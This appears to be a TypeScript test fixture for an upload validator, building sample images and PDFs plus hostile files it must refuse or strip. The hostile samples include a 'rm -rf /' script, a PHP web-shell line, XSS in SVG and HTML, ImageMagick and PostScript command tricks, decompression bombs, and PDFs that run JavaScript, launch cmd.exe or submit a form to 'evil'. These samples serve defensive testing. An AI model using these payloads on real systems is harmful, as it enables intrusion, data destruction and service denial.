import { deflateSync } from 'node:zlib'
import { PhotonImage } from '@cf-wasm/photon'

const join = (...parts: (string | Uint8Array)[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part))))
const uint32 = (value: number): Buffer => {
  const four = Buffer.alloc(4)
  four.writeUInt32BE(value >>> 0)
  return four
}

/** A picture whose left half is red and whose right half is blue. */
function halves(width = 40, height = 20, alpha = 255): PhotonImage {
  const pixels = new Uint8Array(width * height * 4)
  for (let at = 0; at < pixels.length; at += 4) {
    const left = (at / 4) % width < width / 2
    pixels.set(left ? [255, 0, 0, alpha] : [0, 0, 255, alpha], at)
  }
  return new PhotonImage(pixels, width, height)
}

export const jpeg = Buffer.from(halves().get_bytes_jpeg(90))
export const png = Buffer.from(halves().get_bytes())
export const webp = Buffer.from(halves().get_bytes_webp())
export const clearPng = Buffer.from(halves(40, 20, 100).get_bytes())

/** A JPEG with what a phone writes into it: where it was taken, with what, and that it must be turned. */
export function photo(orientation: number): Buffer {
  const entry = (tag: number, type: number, count: number, value: Buffer): Buffer =>
    join(Buffer.from([tag >> 8, tag & 255, 0, type]), uint32(count), value)
  const tiff = join(
    'MM\0*',
    uint32(8),
    Buffer.from([0, 2]),
    entry(0x0112, 3, 1, Buffer.from([0, orientation, 0, 0])),
    entry(0x8825, 4, 1, uint32(38)),
    uint32(0),
    'GPSLatitude 52.5163 GPSLongitude 13.3777 Phone of Ada',
  )
  const exif = join('Exif\0\0', tiff)
  return join(
    jpeg.subarray(0, 2),
    '\xff\xe1',
    Buffer.from([(exif.length + 2) >> 8, (exif.length + 2) & 255]),
    exif,
    jpeg.subarray(2),
  )
}

export const pdf = pdfOf('/Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit]')
function pdfOf(catalog: string, more = '', trailer = ''): Buffer {
  return join(
    `%PDF-1.7\n1 0 obj\n<< ${catalog} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n`,
    '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] >>\nendobj\n',
    more,
    `trailer\n<< /Root 1 0 R ${trailer} >>\nstartxref\n0\n%%EOF\n`,
  )
}
const stream = (dictionary: string, data: Uint8Array): string =>
  `4 0 obj\n<< ${dictionary} /Length ${data.length} >>\nstream\n${Buffer.from(data).toString('latin1')}\nendstream\nendobj\n`
const zip = join('PK\x03\x04', Buffer.alloc(26), 'evil.exe', 'PK\x05\x06', Buffer.alloc(18))
const pngOfSize = (width: number, height: number): Buffer => {
  const big = Buffer.from(png)
  big.writeUInt32BE(width, 16)
  big.writeUInt32BE(height, 20)
  return big
}
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
const withComment = (text: string): Buffer =>
  join(jpeg.subarray(0, 2), '\xff\xfe', Buffer.from([0, text.length + 2]), text, jpeg.subarray(2))

/** Files that must not be taken, each with the fault that is told. */
export const refused: readonly (readonly [what: string, fault: string, bytes: Buffer])[] = [
  ['nothing', 'empty', Buffer.alloc(0)],
  ['an SVG', 'wrong_type', join(svg)],
  ['an SVG behind an XML head', 'wrong_type', join('<?xml version="1.0"?><!DOCTYPE svg>', svg)],
  ['an SVG with a byte order mark', 'wrong_type', join('\xef\xbb\xbf', svg)],
  ['a page of HTML', 'wrong_type', join('<!doctype html><script>alert(1)</script>')],
  ['a zip', 'wrong_type', zip],
  ['a zip bomb (42 kB of nothing in itself)', 'wrong_type', join('PK\x03\x04', deflateSync(Buffer.alloc(40_000_000)))],
  ['a gzip', 'wrong_type', join('\x1f\x8b\x08', Buffer.alloc(40))],
  ['a program for Windows', 'wrong_type', join('MZ\x90\0', Buffer.alloc(200))],
  ['a program for Linux', 'wrong_type', join('\x7fELF', Buffer.alloc(200))],
  ['a script', 'wrong_type', join('#!/bin/sh\nrm -rf /\n')],
  ['a script for PHP', 'wrong_type', join('<?php system($_GET["c"]); ?>')],
  ['a GIF', 'wrong_type', join('GIF89a', Buffer.alloc(60))],
  ['a GIF that is a script', 'wrong_type', join('GIF89a/*', Buffer.alloc(20), '*/=1;alert(1)')],
  ['a TIFF', 'wrong_type', join('II*\0', Buffer.alloc(60))],
  ['a bitmap', 'wrong_type', join('BM', Buffer.alloc(60))],
  ['an icon', 'wrong_type', join('\0\0\x01\0', Buffer.alloc(60))],
  ['a HEIC', 'wrong_type', join('\0\0\0\x18ftypheic', Buffer.alloc(60))],
  ['a film', 'wrong_type', join('\0\0\0\x18ftypisom', Buffer.alloc(60))],
  ['a Word document of old', 'wrong_type', join('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', Buffer.alloc(600))],
  ['PostScript', 'wrong_type', join('%!PS-Adobe-3.0\n(%pipe%id) (r) file')],
  [
    'an MVG for ImageMagick',
    'wrong_type',
    join('push graphic-context\nviewbox 0 0 640 480\nfill url(https://127.0.0.1/)'),
  ],
  ['text', 'wrong_type', join('Dear support, ...')],
  ['a PDF behind other bytes', 'wrong_type', join('GIF89a', pdf)],
  ['a JPEG that is cut off', 'broken', jpeg.subarray(0, jpeg.length - 20)],
  ['three bytes of a JPEG', 'broken', jpeg.subarray(0, 3)],
  ['a JPEG with a segment longer than the file', 'broken', join('\xff\xd8\xff\xe1\xff\xff', 'x')],
  ['a JPEG with a segment of no length', 'broken', join('\xff\xd8\xff\xe1\0\0', Buffer.alloc(20))],
  ['a JPEG without a picture', 'broken', join('\xff\xd8\xff\xd9')],
  ['a PNG that is cut off', 'broken', png.subarray(0, png.length - 6)],
  [
    'a PNG with a chunk longer than the file',
    'broken',
    join(png.subarray(0, 33), '\xff\xff\xff\xf0IDAT', Buffer.alloc(20)),
  ],
  ['a PNG of no size', 'broken', pngOfSize(0, 20)],
  [
    'a PNG whose pixels are no pixels',
    'broken',
    join(png.subarray(0, 33), uint32(4), 'IDAT', 'evil', uint32(0), uint32(0), 'IEND', uint32(0)),
  ],
  ['a WebP that is cut off', 'broken', webp.subarray(0, 25)],
  ['a WebP longer than the file', 'broken', join('RIFF\xff\xff\xff\x7fWEBPVP8 ', Buffer.alloc(60))],
  ['a picture bomb: 60,000 by 60,000 pixels in a few bytes', 'too_many_pixels', pngOfSize(60_000, 60_000)],
  ['a picture bomb: 4,294,967,295 pixels wide', 'too_many_pixels', pngOfSize(0xffffffff, 1)],
  ['a picture of 17 megapixels', 'too_many_pixels', pngOfSize(4250, 4000)],
  ['a JPEG with a zip behind it', 'two_in_one', join(jpeg, zip)],
  ['a PNG with a zip behind it', 'two_in_one', join(png, zip)],
  ['a PNG with a page behind it', 'two_in_one', join(png, '<html><script>alert(1)</script>')],
  ['a JPEG with a script for PHP behind it', 'two_in_one', join(jpeg, '<?php system("id") ?>')],
  ['a JPEG with a PDF behind it', 'two_in_one', join(jpeg, pdf)],
  ['a WebP with an SVG behind it', 'two_in_one', join(webp, svg)],
  ['a PNG with a program behind it', 'two_in_one', join(png, 'MZ\x90\0', Buffer.alloc(100))],
  ['a PDF that is cut off', 'broken', pdf.subarray(0, 80)],
  ['a PDF with a zip behind it', 'two_in_one', join(pdf, zip)],
  ['a PDF with a page behind it', 'two_in_one', join(pdf, '<html>')],
  ['a PDF with JavaScript', 'active', pdfOf('/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
  [
    'a PDF with JavaScript spelled as #4a',
    'active',
    pdfOf('/Type /Catalog /OpenAction << /S /#4aava#53cript /J#53 (x) >>'),
  ],
  ['a PDF that starts a program', 'active', pdfOf('/Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >>')],
  ['a PDF that holds a file', 'active', pdfOf('/Type /Catalog /Names << /EmbeddedFiles 9 0 R >>')],
  ['a PDF that sends a form', 'active', pdfOf('/Type /Catalog /AA << /O << /S /SubmitForm /F (http://evil) >> >>')],
  ['a PDF with an XFA form', 'active', pdfOf('/Type /Catalog /AcroForm << /XFA 5 0 R >>')],
  [
    'a PDF with JavaScript in packed objects',
    'active',
    pdfOf('/Type /Catalog', stream('/Type /ObjStm /Filter /FlateDecode', deflateSync('<< /S /JavaScript /JS (1) >>'))),
  ],
  [
    'a PDF with JavaScript in objects that are not packed',
    'active',
    pdfOf('/Type /Catalog', stream('/Type /ObjStm', Buffer.from('<< /S /JavaScript >>'))),
  ],
  [
    'a PDF with objects packed in a way that is not looked into',
    'active',
    pdfOf('/Type /Catalog', stream('/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]', Buffer.from('789c'))),
  ],
  [
    'a PDF with packed objects that can’t be unpacked',
    'broken',
    pdfOf('/Type /Catalog', stream('/Type /ObjStm /Filter /FlateDecode', Buffer.from('evil'))),
  ],
  ['a PDF with a password', 'locked', pdfOf('/Type /Catalog', '', '/Encrypt 8 0 R')],
  [
    'a PDF bomb',
    'two_in_one',
    pdfOf('/Type /Catalog', stream('/Filter /FlateDecode', deflateSync(Buffer.alloc(101 * 1024 * 1024)))),
  ],
]

/** Files with something evil in them that is not there any more when they are kept. */
export const disarmed: readonly (readonly [what: string, bytes: Buffer, evil: RegExp])[] = [
  ['a photo with its place', photo(1), /GPSLatitude|Exif|Phone of Ada/],
  ['a JPEG with a script in a comment', withComment('<script>alert(1)</script>'), /script/],
  ['a JPEG with PHP in a comment', withComment('<?php system("id") ?>'), /php/],
  ['a JPEG with a film behind it', join(jpeg, '\0\0\0\x18ftypmp42', Buffer.alloc(100)), /ftyp/],
  [
    'a PNG with a page in a text',
    join(png.subarray(0, 33), uint32(22), 'tEXt', 'a\0<script>evil</script>'.slice(0, 22), uint32(0), png.subarray(33)),
    /tEXt|script/,
  ],
]
